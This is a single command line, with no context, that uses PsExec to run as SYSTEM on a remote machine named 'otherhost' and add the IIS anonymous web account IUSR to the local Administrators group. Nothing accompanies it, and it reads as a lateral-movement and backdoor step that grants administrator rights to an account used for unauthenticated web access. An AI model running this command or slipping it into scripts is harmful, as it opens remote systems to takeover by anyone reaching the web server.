& C:\tools\PsExec.exe \\otherhost -accepteula -s net localgroup Administrators IUSR /add
